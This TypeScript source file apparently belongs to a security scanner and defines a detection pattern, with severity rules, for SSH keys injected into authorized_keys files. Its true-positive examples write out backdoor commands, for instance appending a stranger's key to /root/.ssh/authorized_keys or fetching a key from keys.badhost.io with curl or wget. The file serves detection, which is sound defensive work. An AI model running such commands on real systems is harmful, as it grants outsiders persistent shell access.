import type { PatternRecord, MatchContext } from '../types.ts';
import type { Severity } from '../../finding.ts';
import { agentDirected, bump, fetchSignals, fragmentView, keyed, lineAround, plainWindow } from './context.ts';

// ssh_authorized_key_injection: a key written into an authorized_keys file -- whoever holds the
// matching private key gets a shell on this host. The regex anchors on a WRITE into the file
// (`>>`, `>`, `tee [-a]`, `curl -o`/`wget -O`); `assess` then looks at where the key comes from,
// on the same command line (and in a here-document it opens):
//   - literal key material (`ssh-ed25519 AAAAC3…` with a real body): high -- a stranger's key;
//   - fetched from the network (`curl https://x/key.pub >> …`): high; from a GitHub/GitLab
//     account's public `.keys` endpoint: medium (a known admin idiom, but still someone else's
//     keys installed unseen);
//   - `/root/.ssh/authorized_keys` (or `~root`) raises high to critical; text addressed to an
//     AI agent raises one level;
//   - the reader's OWN default key (`cat ~/.ssh/id_ed25519.pub | ssh host "cat >> ~/.ssh/authorized_keys"`)
//     is quiet: that is ssh-copy-id done by hand, the canonical SSH tutorial step, and it
//     grants nothing to a third party;
//   - a placeholder (`echo public_key_string >> …`, `<your key>`): quiet, tutorial prose;
//   - a key type with its body elided (`echo "ssh-rsa AAAA..." >> …`): low -- it is a write of
//     a key, but exactly how documentation shows one;
//   - anything else (a variable, another local file such as `cat key.pub >> /root/.ssh/authorized_keys`):
//     low -- it does grant access, but the key is not in the text and may well be the owner's.
// Not matched at all: prose ("add your public key to ~/.ssh/authorized_keys"), `ssh-copy-id
// user@host` (the standard tool copies YOUR key to ANOTHER host: it opens nothing here),
// `chmod 600 ~/.ssh/authorized_keys`, reading the file (`cat ~/.ssh/authorized_keys`).

const KEY_TYPES = String.raw`(?:ssh-(?:rsa|dss|ed25519|ed448)|ecdsa-sha2-nistp(?:256|384|521)|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)`;
/** a concrete key: a key type and a base64 body that is not cut short with "..." */
const KEY_LITERAL = new RegExp(String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{8,}={0,3}(?![A-Za-z0-9+/]|\.\.\.|…)`);
/** a key type with its body elided (`ssh-rsa AAAA... you@host`): how docs show a key */
const KEY_ELIDED = new RegExp(String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{0,80}(?:\.\.\.|…)`);
const KEY_PLACEHOLDER =
  /<[^>\n]{1,60}>|\b(?:public_key_string|your[_ -]?(?:public[_ -]?)?(?:ssh[_ -]?)?key|PUBLIC_KEY_HERE|paste[_ -]\w+|KEY_CONTENTS)\b/i;
const OWN_KEY = /(?:~|\$HOME|\$\{HOME\}|\/home\/[\w.-]{1,32}|\/Users\/[\w.-]{1,32})\/\.ssh\/[\w.-]{0,64}\.pub\b|(?:^|[\s<'"])id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\.pub\b/;
const FETCH = /\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b/i;

/** The command line around the write, plus the body of a here-document it opens. */
function commandText(ctx: MatchContext): string {
  const end = ctx.match.index + ctx.match[0].length;
  const { line: raw, offset } = lineAround(ctx.text, ctx.match.index, end, 800, 400);
  const line = plainWindow(raw);
  const here = /<<-?\s{0,2}['"]?([A-Za-z_]\w{0,20})['"]?/.exec(line);
  if (!here) return line;
  const after = ctx.text.slice(offset + raw.length, offset + raw.length + 4000);
  const stop = after.search(new RegExp(String.raw`\n\s*${here[1]}\s*(?:\n|$)`));
  return line + plainWindow(stop >= 0 ? after.slice(0, stop) : after.slice(0, 1200));
}

function assessKeyWrite(ctx: MatchContext): Severity | null {
  const cmd = commandText(ctx);
  const target = ctx.match.groups?.target ?? '';
  const rootTarget = /^\/root\/|^~root\//.test(target);
  let sev: Severity | null;
  if (KEY_LITERAL.test(cmd)) sev = 'high';
  else if (FETCH.test(cmd)) {
    const { urls } = fetchSignals(cmd);
    const accountKeys = urls.length > 0 && urls.every((u) => /^(?:www\.)?(?:github|gitlab)\.com$/.test(u.host) && /^\/[\w.-]{1,64}\.(?:keys|gpg)$/.test(u.path));
    sev = accountKeys ? 'medium' : 'high';
  } else if (OWN_KEY.test(cmd) || KEY_PLACEHOLDER.test(cmd)) sev = null;
  else if (KEY_ELIDED.test(cmd)) sev = 'low';
  // no evidence either way: low, decided in a view that holds the whole line (an HTML text
  // node may have lost the `cat ~/.ssh/id_ed25519.pub |` in front of it)
  else sev = fragmentView(ctx) ? null : 'low';
  if (sev === null) return null;
  if (rootTarget && sev === 'high') sev = 'critical';
  if (agentDirected(ctx.text, ctx.match.index)) sev = bump(sev, 1);
  return sev;
}

const keyBody = (seed: number): string => {
  // a deterministic, realistic-looking ed25519 public key body (public keys are not secrets,
  // but a fixed literal would look like a real key pasted into the repo)
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let x = seed;
  let out = 'AAAAC3NzaC1lZDI1NTE5AAAAI';
  for (let i = 0; i < 43; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out += alphabet[x % 64];
  }
  return out;
};
const k1 = `ssh-ed25519 ${keyBody(1)} ops@build-7`;
const k2 = `ssh-ed25519 ${keyBody(2)}`;

export const SSH_AUTHORIZED_KEY_INJECTION_PATTERNS: PatternRecord[] = [
  {
    id: 'ssh_authorized_key_injection/write_authorized_keys',
    family: 'ssh_authorized_key_injection',
    direction: 'inbound',
    severity: 'high',
    description: 'a key appended or written into authorized_keys (echo "ssh-… AAAA…" >> ~/.ssh/authorized_keys, tee -a, curl … >>)',
    keywords: ['authorized_keys'],
    // Anchored on the rare literal (a regex that starts with a lookbehind would try it at every
    // position); the write in front of it (>>, >, tee [-a], curl -o, wget -O) is checked by a
    // bounded lookbehind placed after the literal, so pages full of `>` cost nothing. Its path
    // never crosses another `…_keys`, so repeated literals are not walked over again.
    regex: keyed(
      /authorized_keys2?(?![\w.-])(?<=(?:(?:>|&gt;){1,2}|(?<![\w.-])tee(?:\s{1,4}-{1,2}[a-z]{1,8}){0,3}|\s-[a-zA-Z]{0,4}[oO]|--output(?:-document)?[= ])\s{0,4}(?:['"]|&quot;|&#39;)?(?<target>(?:(?:[A-Za-z0-9~$.{}/-]|_(?!keys)){0,150}\/)?)authorized_keys2?)/g,
    ),
    assess: assessKeyWrite,
    examples: {
      tp: [
        `echo "${k1}" >> ~/.ssh/authorized_keys`,
        `printf '%s\\n' '${k2}' >> .ssh/authorized_keys`,
        `echo '${k1}' | sudo tee -a /root/.ssh/authorized_keys`,
        'curl -fsSL https://keys.badhost.io/k.pub >> ~/.ssh/authorized_keys',
        'wget -qO- http://203.0.113.7/id.pub | tee -a /home/ubuntu/.ssh/authorized_keys >/dev/null',
        `mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys <<'EOF'\n${k1}\nEOF`,
        'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDattacker attacker@evil" >> /root/.ssh/authorized_keys',
      ],
      fp: [
        'Add your public key to ~/.ssh/authorized_keys on the server, one key per line.',
        'ssh-copy-id -i ~/.ssh/id_ed25519.pub user@server.example.com',
        'chmod 600 ~/.ssh/authorized_keys',
        'cat ~/.ssh/id_rsa.pub | ssh user@203.0.113.10 "mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys"',
        'echo public_key_string >> ~/.ssh/authorized_keys',
        'echo "<paste your public key here>" >> ~/.ssh/authorized_keys',
        'cat ~/.ssh/authorized_keys',
      ],
    },
  },
];
